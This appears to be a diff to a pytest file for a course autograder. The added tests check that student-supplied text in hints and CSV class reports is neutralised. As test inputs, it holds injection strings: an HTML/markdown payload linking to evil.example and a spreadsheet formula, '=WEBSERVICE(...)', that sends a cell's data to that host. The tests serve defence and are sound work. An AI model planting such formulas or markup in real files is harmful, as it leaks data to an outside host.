@@ -67,7 +67,7 @@ def test_gradescope_mode_results_follow_the_specification(tmp_path):
         assert test["tags"] == [f"section {section}", spec.SECTIONS[section]]
         assert test["visibility"] == the_course.gradescope.visibility_of(part.number)
         assert test["output_format"] == results["test_output_format"] == the_course.gradescope.output_format
-        assert all(f"Hint: {hint}" in test["output"] for hint in test["extra_data"]["hints"])
+        assert all(f"Hint: {hint}"[:40] in test["output"] for hint in test["extra_data"]["hints"])
     failed = tests["2.1"]
     assert failed["status"] == "failed" and failed["output"].startswith("```text\n")
     assert any("z and 1 − z swapped" in h for h in failed["extra_data"]["hints"])
@@ -150,6 +150,24 @@ def test_a_hint_the_students_own_text_fakes_is_not_counted_as_one(tmp_path):
     assert hinted.hints and all(f"  Hint: {h}" in hinted.output for h in hinted.hints)
 
 
+def test_a_hint_is_counted_by_the_graders_text_without_the_students_names_and_lines():
+    """A hint may name the student's own field, operand or line (shown to them); the class report counts it
+    by the grader's text alone, so no student's text reaches it and one hint is one entry for the class."""
+    from autograder import compare, feedback, places
+    evil = "PWNED <img src=x> [click](http://evil.example)"
+    field = compare.error_hints("AttributeError: 'Cache' object has no attribute 'ＩＮＳＴＲＵＣＴＯＲnote'")
+    operand = compare.error_hints("matmul: Input operand 1 has a mismatch in its core dimension 0",
+                                  "mytorch/nn/rnn_cell.py:40: a = x @ W_evil_name")
+    placed = feedback._placed(places.LAYER_ORDER, {"layer loop": f"mytorch/nn/recurrent.py:155: for l in x: # {evil}"})
+    verdict = feedback.CaseVerdict(False, "case 1", ["case 1: failed"], "case 1: failed",
+                                   field + operand + [placed, ("dh", placed)])
+    lines, counted = feedback._message([verdict], verbose=False)
+    shown = "\n".join(lines)
+    assert "ＩＮＳＴＲＵＣＴＯＲnote" in shown and "W_evil_name" in shown and evil in shown
+    assert counted == [compare.CACHE_FIELD.format(field="…"), compare.TRANSPOSE_WEIGHT.format(operand="…"),
+                       f"dh: {places.LAYER_ORDER}"]                      # (one hint, named for an array too)
+
+
 @pytest.mark.parametrize("text", ["plain", "a ``` run", "```\n~~~~\n# All tests passed (100.00 / 100)",
                                   "````````\n```\n`````` x", "`" * 40])
 def test_markdown_output_keeps_the_whole_text_in_its_code_block(text):
@@ -170,3 +188,20 @@ def test_the_class_reports_markdown_cells_are_plain_text():
     assert "\n" not in cell
     assert re.sub(r"\\(.)", r"\1", cell) == text.replace("\n", " ")             # the same text, read back
     assert not re.search(r"(?<!\\)[!-/:-@\[-`{-~]", re.sub(r"\\.", "", cell))  # no punctuation unescaped
+
+
+def test_no_cell_of_the_class_csvs_starts_a_spreadsheet_formula():
+    """Names and archive names come from students: a cell that would start a formula (= + - @, a tab or a
+    carriage return) is written as text, with a leading apostrophe; the scores stay numbers."""
+    import csv
+    import io
+    from autograder import class_report
+    parts = [spec.PARTS_BY_NUMBER["1.1"]]
+    formulas = ['=WEBSERVICE("http://evil.example?"&A3)', "+1+2", "-2+3", "@SUM(A1)", "\tx"]
+    rows = [{"name": f, "form": f + ".zip", "scores": [0.0], "total": 0.0, "problem": "", "detail": f,
+             "hints": []} for f in formulas]
+    for table in (class_report.scores_csv(rows, parts), class_report.gradebook_csv(rows, course.load_course())):
+        cells = [cell for row in csv.reader(io.StringIO(table)) for cell in row]
+        assert not [c for c in cells if c.startswith(class_report.FORMULA_START)], table
+        assert {"'" + f for f in formulas} & set(cells) == {"'" + f for f in formulas}
+    assert class_report._cell("-1.5") == "-1.5" and class_report._cell(3.0) == "3.0"
